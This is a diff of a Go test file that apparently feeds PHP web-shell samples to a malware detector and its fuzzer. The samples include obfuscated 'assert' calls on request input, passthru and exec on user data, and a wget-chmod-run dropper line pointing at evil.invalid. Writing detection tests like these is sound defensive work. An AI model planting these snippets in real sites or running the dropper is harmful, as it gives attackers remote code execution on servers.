@@ -63,7 +63,7 @@ var probes = []struct{ name, rule, src string }{
 	{"brace-less branch", "php.exec-input", `<?php $c = 'id'; if (!empty($_POST['c'])) $c = $_POST['c']; passthru($c);`},
 	{"range chr", "php.exec-input", `<?php $r = range(0, 200); $f = chr($r[97]) . chr($r[115]) . chr($r[115]) . 'ert'; $f($_POST['x']);`},
 	{"array keys", "php.exec-input", `<?php $p = array('a' => 1, 's' => 2, 'x' => 3); $k = array_keys($p); $f = $k[0] . $k[1] . $k[1] . 'ert'; $f($_POST['x']);`},
-	{"method callback", "php.hidden-call", `<?php $o = new ArrayObject(array($_REQUEST['x'] => 1)); $o->uksort('assert');`},
+	{"method callback", "php.exec-input", `<?php $o = new ArrayObject(array($_REQUEST['x'] => 1)); $o->uksort('assert');`},
 	{"sqlite function", "php.dynamic-call-input", `<?php $db = new SQLite3(':memory:'); $db->createFunction('f', $_REQUEST['e']); $db->query("SELECT f('x')");`},
 	{"exec fallback", "php.exec-fallback", `<?php function x($c) { if (function_exists('exec')) exec($c); elseif (function_exists('shell_exec')) shell_exec($c); else system($c); } x('id');`},
 	{"dropper command", "php.cmd-malicious", `<?php system("wget -q http://evil.invalid/x -O /tmp/x; chmod +x /tmp/x; /tmp/x");`},
@@ -279,6 +279,12 @@ func FuzzAnalyze(f *testing.F) {
 		f.Add([]byte(p.src))
 	}
 	for _, b := range benign {
+		f.Add([]byte(b.src))
+	}
+	for _, p := range constructProbes {
+		f.Add([]byte(p.src))
+	}
+	for _, b := range constructBenign {
 		f.Add([]byte(b.src))
 	}
 	f.Fuzz(func(t *testing.T, b []byte) {
